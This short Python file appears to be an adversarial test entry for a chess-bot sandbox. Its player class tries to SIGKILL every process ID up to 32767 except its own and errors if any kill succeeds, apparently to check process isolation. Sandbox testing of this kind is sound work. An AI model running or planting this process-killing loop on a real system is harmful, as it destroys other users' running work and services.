"""Sends a signal to each number that a process can have."""

# verdict: none

import os
import signal

from base import Player


class AI(Player):
    has_tried = False

    def go(self, chessboard):
        self.find_moves(chessboard)
        others = [] if AI.has_tried else set(range(2, 1 << 15)) - {os.getpid()}
        AI.has_tried = True
        for number in others:
            try:
                os.kill(number, signal.SIGKILL)
            except ProcessLookupError:
                continue
            raise RuntimeError("there is a process %d" % number)
